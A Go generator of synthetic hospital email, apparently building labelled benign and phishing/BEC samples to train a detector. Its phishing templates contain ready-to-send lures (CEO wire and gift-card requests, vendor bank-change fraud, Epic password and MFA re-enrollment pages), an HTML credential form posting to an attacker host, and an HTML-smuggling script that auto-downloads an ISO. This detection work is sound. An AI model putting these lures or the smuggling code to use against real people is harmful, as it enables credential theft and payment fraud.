package train

import (
	"encoding/base64"
	"fmt"
	"strings"
)

const own = "stbrigidhealth.org"

func (g *gen) staff() (name, addr string) {
	f, l, u := g.person()
	return f + " " + l, u + "@" + own
}

func (g *gen) vip() (first, last, title string) {
	v := vips[g.r.IntN(len(vips))]
	return v[0], v[1], v[2]
}

func (g *gen) one(xs ...string) string { return xs[g.r.IntN(len(xs))] }

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func (g *gen) passAuth(dom string) string { return authRes("pass", "pass", "pass", dom) }

// internalAuth: mail between staff often never crosses the border MTA, so
// half of it carries no Authentication-Results at all.
func (g *gen) internalAuth() string {
	if g.r.IntN(2) == 0 {
		return ""
	}
	return g.passAuth(own)
}

// externalAuth: real outside senders are not all DMARC-aligned: 65 % pass,
// 20 % publish no DMARC, 10 % arrive through a forwarder or list (SPF
// softfail, DKIM broken, DMARC fail), 5 % carry no result.
func (g *gen) externalAuth(dom string) string {
	switch x := g.r.IntN(20); {
	case x < 13:
		return g.passAuth(dom)
	case x < 17:
		return authRes("pass", "none", "none", dom)
	case x < 19:
		return authRes("softfail", "fail", "fail", dom)
	}
	return ""
}

// families: benign (label 0) and phishing/BEC (label 1) templates of
// hospital mail. Phrasings vary per message; names, amounts, domains and
// links are drawn at random.
func families() []family {
	return append([]family{
		{"benign-shift-memo", 0, false, func(g *gen) mail {
			n, a := g.staff()
			_, to := g.staff()
			d := g.pick(depts)
			return mail{from: fmt.Sprintf("%s <%s>", n, a), to: to, auth: g.internalAuth(),
				subject: g.one("Shift swap for "+d, d+" schedule next week", "Coverage for Saturday night"),
				text: fmt.Sprintf("%s,\n\n%s\n\nThanks,\n%s\n%s", g.pick(greetings),
					g.one("Could you cover my Saturday night shift in "+d+"? I can take your Tuesday day shift in exchange. The charge nurse already approved it.",
						"The "+d+" schedule for next week is posted on the unit board. Please check your assignments and let me know about conflicts by Thursday.",
						"Reminder that the "+d+" huddle moves to 07:15 starting Monday. Bring the updated bed board."), n, d)}
		}},
		{"benign-it-maintenance", 0, false, func(g *gen) mail {
			_, to := g.staff()
			sys := g.one("Epic", "the PACS viewer", "Citrix", "the lab interface", "Kronos")
			return mail{from: "IT Service Desk <servicedesk@" + own + ">", to: to, auth: g.internalAuth(),
				subject: "Planned maintenance: " + sys + g.one(" this Sunday", " on Saturday night", " tonight"),
				html:    fmt.Sprintf("<p>%s will be unavailable from 01:00 to 03:00 for planned maintenance. Downtime procedures are on the <a href=\"https://intranet.%s/it/downtime\">intranet downtime page</a>.</p><p>No action is needed from you. Questions: call the service desk at x4357.</p><p>IT Service Desk</p>", sys, own)}
		}},
		{"benign-payer-remittance", 0, false, func(g *gen) mail {
			_, to := g.staff()
			return mail{from: "MediTrust Provider Services <provider-notices@meditrustplans.com>", to: to, auth: g.externalAuth("meditrustplans.com"),
				subject: g.one("Remittance advice available", "Your 835 remittance file is ready", "Explanation of benefits batch posted"),
				html:    fmt.Sprintf("<p>A remittance advice for payment batch %d (%s) is available in the provider portal.</p><p>Sign in at <a href=\"https://provider.meditrustplans.com/remittance\">provider.meditrustplans.com</a> to download the ERA file.</p><p>MediTrust Health Plans Provider Services</p>", g.r.IntN(900000)+100000, g.pick(amounts))}
		}},
		{"benign-vendor-invoice", 0, false, func(g *gen) mail {
			_, to := g.staff()
			inv := fmt.Sprintf("INV-%06d", g.r.IntN(999999))
			return mail{from: "Cardinal Medical Supply Billing <billing@cardinalmedsupply.com>", to: to, auth: g.externalAuth("cardinalmedsupply.com"),
				subject: "Invoice " + inv + " for PO " + fmt.Sprint(g.r.IntN(90000)+10000),
				text:    fmt.Sprintf("Hello,\n\nPlease find attached invoice %s for %s, payable under the usual net-30 terms to the account on file.\n\nKind regards,\nAccounts Receivable\nCardinal Medical Supply", inv, g.pick(amounts)),
				attach:  []att{{inv + ".pdf", "application/pdf", b64("%PDF-1.4 invoice " + inv)}}}
		}},
		{"benign-hr-enrollment", 0, false, func(g *gen) mail {
			_, to := g.staff()
			return mail{from: "Human Resources <hr@" + own + ">", to: to, auth: g.internalAuth(),
				subject: g.one("Open enrollment starts November 1", "Benefits enrollment reminder", "Update your benefits elections"),
				html:    fmt.Sprintf("<p>Open enrollment for 2027 benefits runs from November 1 to November 15. Review your medical, dental and vision elections in the <a href=\"https://hr.%s/benefits\">benefits portal</a>.</p><p>Information sessions are held in the %s conference room.</p><p>Human Resources</p>", own, g.pick(depts))}
		}},
		{"benign-vip-meeting", 0, false, func(g *gen) mail {
			f, l, t := g.vip()
			_, to := g.staff()
			return mail{from: fmt.Sprintf("%s %s <%s%s@%s>", f, l, strings.ToLower(f[:1]), strings.ToLower(l), own), to: to, auth: g.internalAuth(),
				subject: g.one("Quality committee agenda", "Board prep on Thursday", "Follow-up from leadership huddle"),
				text: fmt.Sprintf("%s,\n\n%s\n\n%s %s\n%s", g.pick(greetings),
					g.one("Attached is nothing yet, but please send me your quality metrics slides by Wednesday so I can merge them for the committee.",
						"Thanks for the update at this morning's huddle. Let's review the sepsis bundle compliance numbers together on Thursday at 2 pm.",
						"Can your team present the patient falls review at the next board prep? Twenty minutes is enough."), f, l, t)}
		}},
		{"benign-portal-notification", 0, false, func(g *gen) mail {
			n, to := g.staff()
			return mail{from: "MyBrigid Patient Portal <noreply@mychart." + own + ">", to: to, auth: g.internalAuth(),
				subject: "You have a new message in MyBrigid",
				html:    fmt.Sprintf("<p>Dear %s,</p><p>You have a new message from your care team. For your privacy the message is only available after you sign in at <a href=\"https://mychart.%s/\">mychart.%s</a>.</p><p>Please do not reply to this email.</p>", n, own, own)}
		}},
		{"benign-newsletter", 0, true, func(g *gen) mail {
			_, to := g.staff()
			org := g.one("Healthcare Finance Forum", "Nursing Leadership Weekly", "Radiology Business Digest", "Pharmacy Practice News")
			dom := strings.ToLower(strings.ReplaceAll(org, " ", "")) + ".com"
			return mail{from: org + " <news@" + dom + ">", returnPath: "bounce-" + fmt.Sprint(g.r.IntN(9999)) + "@esp-mailer.net", to: to, auth: g.externalAuth(dom),
				subject: org + g.one(": this week's top stories", " - October issue", ": webinar invitation"),
				html:    fmt.Sprintf("<p>In this issue: staffing models that cut overtime, the new CMS price transparency rules, and a case study from a 300-bed community hospital.</p><p><a href=\"https://www.%s/articles/%d\">Read the articles</a> | <a href=\"https://www.%s/unsubscribe\">Unsubscribe</a></p>", dom, g.r.IntN(9999), dom)}
		}},
		{"benign-referral", 0, true, func(g *gen) mail {
			f, l, _ := g.person()
			_, to := g.staff()
			return mail{from: fmt.Sprintf("Dr. %s %s <%s.%s@%s>", f, l, strings.ToLower(f), strings.ToLower(l), g.one("lakesideclinic.org", "valleyortho.com", "northcounty-md.org")), to: to, auth: g.externalAuth("lakesideclinic.org"),
				subject: g.one("Referral question", "Re: consult for our shared patient", "Follow-up appointment"),
				text:    fmt.Sprintf("Hello,\n\n%s\n\nBest,\n%s %s", g.one("We faxed the referral for cardiology follow-up yesterday. Could your scheduling team confirm they received it?", "Thank you for seeing our patient last week. Our office will send the imaging through the usual secure channel.", "Is Dr. Chen still taking new oncology referrals this quarter?"), f, l)}
		}},
		{"benign-password-confirmation", 0, false, func(g *gen) mail {
			n, to := g.staff()
			return mail{from: "IT Identity Services <identity@" + own + ">", to: to, auth: g.internalAuth(),
				subject: g.one("Your password was changed", "Password change confirmation", "MFA device registered"),
				text:    fmt.Sprintf("Hello %s,\n\nThe password for your St. Brigid account was changed today at %02d:%02d. If you made this change, no action is needed. If you did not, call the service desk at x4357 right away. We will never ask for your password by email.\n\nIT Identity Services", n, g.r.IntN(10)+8, g.r.IntN(60))}
		}},
		{"benign-hipaa-training", 0, false, func(g *gen) mail {
			_, to := g.staff()
			return mail{from: "Compliance Office <compliance@" + own + ">", to: to, auth: g.internalAuth(),
				subject: g.one("Annual HIPAA compliance training due", "Reminder: privacy training", "HIPAA training assignment"),
				html:    fmt.Sprintf("<p>Your annual HIPAA compliance training is assigned in the learning system and is due by %s 30.</p><p>Open it from the <a href=\"https://learn.%s/courses/hipaa\">learning portal</a>. It takes about 40 minutes.</p><p>Compliance Office</p>", g.one("November", "December"), own)}
		}},
		{"benign-vendor-marketing", 0, true, func(g *gen) mail {
			_, to := g.staff()
			v := g.one("InfusionTech", "MedLogix", "CareScan Imaging", "Sterilis")
			dom := strings.ToLower(v) + ".com"
			return mail{from: v + " Sales <sales@" + dom + ">", to: to, auth: g.externalAuth(dom),
				subject: g.one("New product demo", "Meet us at the regional conference", "Save 10% on service contracts"),
				html:    fmt.Sprintf("<p>Hello,</p><p>%s is presenting its new %s line at the regional hospital engineering conference. Book a slot: <a href=\"https://bit.ly/%s\">bit.ly/%s</a></p><p>Best regards,<br>%s Sales</p>", v, g.one("infusion", "imaging", "sterilisation"), "demo"+fmt.Sprint(g.r.IntN(999)), "demo", v)}
		}},

		{"benign-it-mfa-enrollment", 0, false, func(g *gen) mail {
			_, to := g.staff()
			return mail{from: "IT Security <itsecurity@" + own + ">", to: to, auth: g.internalAuth(),
				subject: g.one("Action required: enroll in MFA by Friday", "Multi-factor authentication rollout", "Your account needs MFA enrollment"),
				html: fmt.Sprintf("<p>%s</p><p>Enroll at <a href=\"https://mfa.%s/enroll\">mfa.%s/enroll</a> from a hospital workstation. The service desk (x4357) can help.</p><p>IT Security</p>",
					g.one("All staff must enroll in multi-factor authentication by Friday. Accounts without MFA will be locked for remote access.",
						"We are rolling out multi-factor authentication for Epic and email. Please enroll your phone within 48 hours."), own, own)}
		}},
		{"benign-payroll-confirmation", 0, false, func(g *gen) mail {
			n, to := g.staff()
			return mail{from: "Payroll <payroll@" + own + ">", to: to, auth: g.internalAuth(),
				subject: g.one("Direct deposit change confirmed", "Your pay statement is available", "Payroll calendar update"),
				text: fmt.Sprintf("Hello %s,\n\n%s\n\nPayroll Office", n, g.one(
					"Your direct deposit change was processed and takes effect with the next payroll. If you did not request it, call payroll at x2210 immediately.",
					"Your pay statement for this period is available in Workday. Sign in from the intranet to view it.",
					"Because of the holiday, payroll will be processed one day early this month. No action is needed."))}
		}},
		{"benign-vendor-bank-letter", 0, false, func(g *gen) mail {
			_, to := g.staff()
			return mail{from: "Cardinal Medical Supply Treasury <treasury@cardinalmedsupply.com>", to: to, auth: g.externalAuth("cardinalmedsupply.com"),
				subject: "Remittance information for " + g.one("Q1", "Q2", "Q3", "Q4"),
				text:    "Hello,\n\nAs requested by your accounts payable team, attached is our signed remittance letter. Our bank details are unchanged; please continue to pay by ACH to the account on file and verify any change by phone with your account manager.\n\nTreasury\nCardinal Medical Supply",
				attach:  []att{{"remittance-letter.pdf", "application/pdf", b64("%PDF-1.4 letter")}}}
		}},
		{"phish-spoofed-internal", 1, false, func(g *gen) mail {
			_, to := g.staff()
			dom := g.pick(badHosts)
			return mail{from: g.one("IT Service Desk", "Payroll", "Human Resources") + " <" + g.one("servicedesk", "payroll", "hr") + "@" + own + ">", returnPath: "bounce@" + dom, to: to, fromOutside: true,
				auth:    g.one(authRes("fail", "none", "fail", own), authRes("softfail", "none", "fail", own), ""),
				subject: g.one("Mandatory: confirm your account", "Your salary adjustment letter", "Benefits enrollment is closing"),
				html: fmt.Sprintf("<p>%s</p><p><a href=\"https://%s/%s\">%s</a></p>", g.one(
					"All staff must confirm their account details today to keep access to Epic and email.",
					"Your salary adjustment letter is ready. Sign in with your hospital credentials to view it.",
					"Benefits enrollment closes today. Log in now to keep your coverage."), dom, g.one("sso/login", "hr/verify", "portal/signin"), g.one("Open the portal", "View letter", "https://intranet."+own+"/"))}
		}},
		{"phish-vip-giftcard", 1, true, func(g *gen) mail {
			f, l, t := g.vip()
			_, to := g.staff()
			fm := g.pick(freemail)
			return mail{from: fmt.Sprintf("%s %s <%s.%s.%s@%s>", f, l, strings.ToLower(f), strings.ToLower(l), g.one("office", "exec", "md", "cfo"), fm), to: to, auth: g.passAuth(fm),
				subject: g.one("Quick favor", "Are you at your desk?", "Urgent request", "Need your help"),
				text: fmt.Sprintf("%s,\n\n%s\n\n%s %s\n%s\nSent from my iPhone", g.pick(greetings),
					g.one("Are you at your desk? I need you to get some gift cards for a staff appreciation surprise. I'm in a meeting and can't talk right now. Keep this between us for now.",
						"Do you have a moment? I need a quick favor with something. Please purchase 6 Amazon gift cards of $200 each and send me the codes by email. It's urgent and confidential.",
						"Are you available? I need you to handle a task for me discreetly today. Get Google Play gift cards and scratch off the back, then send pictures of the codes."), f, l, t)}
		}},
		{"phish-vendor-bank-change", 1, true, func(g *gen) mail {
			dom := g.pick(lookVendor)
			_, to := g.staff()
			return mail{from: "Cardinal Medical Supply Billing <billing@" + dom + ">", replyTo: "cardinal.billing@" + g.pick(freemail), to: to, auth: g.passAuth(dom),
				subject: g.one("Updated banking details", "Change of bank account - action required", "New remittance instructions"),
				text: fmt.Sprintf("Hello,\n\n%s\n\nRegards,\nAccounts Receivable", g.one(
					"Please note that our bank details have changed due to an audit. All outstanding invoices ("+g.pick(amounts)+") should now be paid by wire transfer to the new account below. Kindly update your vendor records immediately and confirm by reply.",
					"We are updating our banking information. Going forward remit to our new account, routing number and account number attached in the letter. The overdue invoice must be paid today to avoid a supply hold.",
					"Due to a change of bank, please process the pending payment of "+g.pick(amounts)+" to the new account details. This is urgent as our old account will be closed."))}
		}},
		{"phish-epic-password", 1, true, func(g *gen) mail {
			n, to := g.staff()
			host := g.one(g.pick(lookOwn), g.pick(badHosts), fmt.Sprintf("185.%d.%d.%d", g.r.IntN(250), g.r.IntN(250), g.r.IntN(250)))
			return mail{from: "Epic Support <epic-support@" + g.one(g.pick(lookOwn), g.pick(badHosts)) + ">", to: to, auth: authRes(g.one("fail", "softfail", "none"), "none", g.one("fail", "none"), "mailer.example"),
				subject: g.one("Your Epic password expires today", "Action required: EHR account verification", "Epic access will be suspended"),
				html: fmt.Sprintf("<p>Dear %s,</p><p>%s</p><p><a href=\"http://%s/epic/login.php?user=%s\">https://epic.%s/login</a></p><p>IT Help Desk</p>", n,
					g.one("Your Epic password will expire within 24 hours. To keep access to patient charts, verify your account now.",
						"We detected unusual sign-in activity on your EHR account. Confirm your credentials immediately or your access will be suspended.",
						"Due to the system upgrade all clinicians must re-validate their Epic login today. Failure to do so will lock your account."), host, strings.ToLower(strings.Fields(n)[0]), own)}
		}},
		{"phish-payroll-dd", 1, true, func(g *gen) mail {
			n, _ := g.staff()
			fm := g.pick(freemail)
			return mail{from: fmt.Sprintf("%s <%s%d@%s>", n, strings.ToLower(strings.ReplaceAll(n, " ", ".")), g.r.IntN(99), fm), to: "payroll@" + own, auth: g.passAuth(fm),
				subject: g.one("Direct deposit change", "Update my payroll account", "Bank change before next payroll"),
				text: fmt.Sprintf("Hi,\n\n%s\n\nThanks,\n%s", g.one(
					"I changed banks and need to update my direct deposit before the next payroll. Can you send me the form or update it for me? I can give you the new account number and routing number.",
					"Please update my payroll direct deposit to my new bank account. I'm on shift and can't log in to Kronos right now, so I'd appreciate it if you could do it today.",
					"I would like to change my direct-deposit information effective this pay period. Let me know what details you need; please do it quickly."), n)}
		}},
		{"phish-hipaa-notice-html", 1, true, func(g *gen) mail {
			_, to := g.staff()
			dom := g.pick(badHosts)
			return mail{from: "HIPAA Compliance <compliance@" + dom + ">", to: to, auth: authRes("none", "none", "none", dom),
				subject: g.one("HIPAA violation notice", "Mandatory HIPAA compliance audit", "Privacy incident report requires your response"),
				text:    "A HIPAA compliance audit flagged access from your account. Open the attached notice and sign in to acknowledge within 48 hours to avoid suspension.",
				attach:  []att{{g.one("HIPAA_Notice.html", "Audit_Report.htm", "Violation.pdf.html"), "text/html", b64(fmt.Sprintf("<html><form action=\"https://%s/collect.php\" method=post><input name=email><input type=password name=pw></form></html>", dom))}}}
		}},
		{"phish-payer-remittance", 1, true, func(g *gen) mail {
			_, to := g.staff()
			dom := g.pick(lookPayer)
			link := g.one("https://"+dom+"/remittance/view", "https://bit.ly/"+fmt.Sprint(g.r.IntN(99999)), "https://"+g.pick(badHosts)+"/era/download")
			return mail{from: "MediTrust Provider Services <notices@" + dom + ">", to: to, auth: authRes(g.one("pass", "none"), "none", g.one("none", "pass"), dom),
				subject: g.one("Remittance advice: payment on hold", "Claim payment hold - verify your provider account", "ERA remittance pending"),
				html: fmt.Sprintf("<p>%s</p><p><a href=\"%s\">provider.meditrustplans.com/remittance</a></p><p>Provider Services</p>",
					g.one("A remittance advice of "+g.pick(amounts)+" is on hold. Verify your provider account within 24 hours to release the payment.",
						"Your claim payment is pending. To receive the ERA file, confirm your banking information in the provider portal immediately."), link)}
		}},
		{"phish-voicemail-smuggling", 1, true, func(g *gen) mail {
			_, to := g.staff()
			dom := g.pick(badHosts)
			script := "<script>var d=atob('UEsDBAoAAAAAA');var b=new Blob([d],{type:'application/octet-stream'});var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='voicemail.iso';a.click();</script>"
			return mail{from: "Voice Mail System <voicemail@" + dom + ">", to: to, auth: authRes("softfail", "none", "fail", dom),
				subject: g.one("New voicemail from (555) 0", "You have 1 new voice message", "Missed call - voicemail attached") + fmt.Sprint(g.r.IntN(999)),
				html:    "<p>You received a new voice message (0:" + fmt.Sprint(g.r.IntN(50)+10) + "). Open the attachment to listen.</p>",
				attach:  []att{{g.one("voicemail.html", "Play_Message.htm"), "text/html", b64("<html><body>" + script + "</body></html>")}}}
		}},
		{"phish-invoice-macro", 1, true, func(g *gen) mail {
			_, to := g.staff()
			dom := g.pick(badHosts)
			a := g.one("Invoice_"+fmt.Sprint(g.r.IntN(9999))+".xlsm", "Statement.docm", "Payment_Details.zip", "Invoice.pdf.js")
			return mail{from: "Accounts <accounts@" + dom + ">", to: to, auth: authRes("none", "none", "none", dom),
				subject: g.one("Overdue invoice", "Payment reminder", "Invoice attached - please review"),
				text:    fmt.Sprintf("Please see the attached invoice for %s which is overdue. Enable editing and content to view. Password for the archive: %d", g.pick(amounts), g.r.IntN(9000)+1000),
				attach:  []att{{a, "application/octet-stream", b64("not a real document")}}}
		}},
		{"phish-portal-anchor", 1, true, func(g *gen) mail {
			n, to := g.staff()
			dom := g.pick(badHosts)
			return mail{from: "MyBrigid Patient Portal <noreply@" + g.one(g.pick(lookOwn), dom) + ">", to: to, auth: authRes("none", "none", "none", dom),
				subject: "Secure message waiting from your care team",
				html:    fmt.Sprintf("<p>Dear %s,</p><p>A secure message is waiting for you. Sign in to read it: <a href=\"https://%s/mychart/signin\">https://mychart.%s/</a></p>", n, dom, own)}
		}},
		{"phish-mfa-reenroll", 1, true, func(g *gen) mail {
			_, to := g.staff()
			dom := g.pick(badHosts)
			return mail{from: "Microsoft 365 Security <no-reply@" + dom + ">", to: to, auth: authRes("fail", "fail", "fail", dom),
				subject: g.one("Re-enroll in MFA to keep access", "Your mailbox is full", "Security alert: unusual sign-in"),
				html: fmt.Sprintf("<p>%s</p><p><a href=\"https://%s/auth/mfa/enroll?u=%d\">Re-enroll now</a></p>", g.one(
					"Your multi-factor authentication must be renewed. Re-enroll in MFA today or your account will be disabled.",
					"Your mailbox quota is full and incoming mail will be rejected. Validate your mailbox to restore service.",
					"Unusual sign-in activity was detected. Confirm your identity within 24 hours to avoid suspension."), dom, g.r.IntN(99999))}
		}},
		{"phish-ceo-wire", 1, true, func(g *gen) mail {
			f, l, t := g.vip()
			_, to := g.staff()
			dom := g.pick(lookOwn)
			return mail{from: fmt.Sprintf("%s %s <%s%s@%s>", f, l, strings.ToLower(f[:1]), strings.ToLower(l), dom), to: to, auth: g.passAuth(dom),
				subject: g.one("Confidential acquisition payment", "Wire needed today", "Time-sensitive payment"),
				text: fmt.Sprintf("%s,\n\n%s\n\n%s %s\n%s", g.pick(greetings), g.one(
					"We are finalising a confidential acquisition of a physician practice. I need you to process a wire transfer of "+g.pick(amounts)+" today. Do not discuss this with anyone until the announcement. Reply only by email.",
					"I need a payment released to our outside counsel before the end of the day. It's time-sensitive and confidential. I'll send the bank details; please confirm you can handle it right away.",
					"Please process an urgent wire of "+g.pick(amounts)+" to the vendor below. I'm in meetings all day, so handle this discreetly and email me when it's done."), f, l, t)}
		}},
		{"phish-docshare", 1, true, func(g *gen) mail {
			n, to := g.staff()
			dom := g.pick(badHosts)
			href := g.one("https://"+dom+"/share/view?doc="+fmt.Sprint(g.r.IntN(99999)), "data:text/html;base64,PGh0bWw+PGZvcm0+", "https://"+fmt.Sprintf("45.%d.%d.%d", g.r.IntN(250), g.r.IntN(250), g.r.IntN(250))+"/doc/login")
			return mail{from: n + " via DocShare <share@" + dom + ">", to: to, auth: authRes("none", "none", "none", dom),
				subject: g.one("Document shared with you: ", "Please review and sign: ", "Shared file: ") + g.one("Q4 budget.pdf", "Staffing plan.docx", "Salary adjustments.xlsx"),
				html:    fmt.Sprintf("<p>%s shared a document with you.</p><p><a href=\"%s\">Open document</a></p><p>This link expires in 24 hours. Sign in with your work email to view.</p>", n, href)}
		}},
		{"phish-iso-lnk", 1, true, func(g *gen) mail {
			_, to := g.staff()
			dom := g.pick(badHosts)
			return mail{from: "Scanner <scan@" + dom + ">", to: to, auth: authRes("none", "none", "none", dom),
				subject: g.one("Scanned document", "Fax received", "Lab results scan"),
				text:    "You have received a scanned document. Open the attachment to view it.",
				attach:  []att{{g.one("scan_"+fmt.Sprint(g.r.IntN(999))+".iso", "results.pdf.lnk", "fax.img", "document.hta"), "application/octet-stream", b64("binary")}}}
		}},
	}, ownDomainFamilies()...)
}
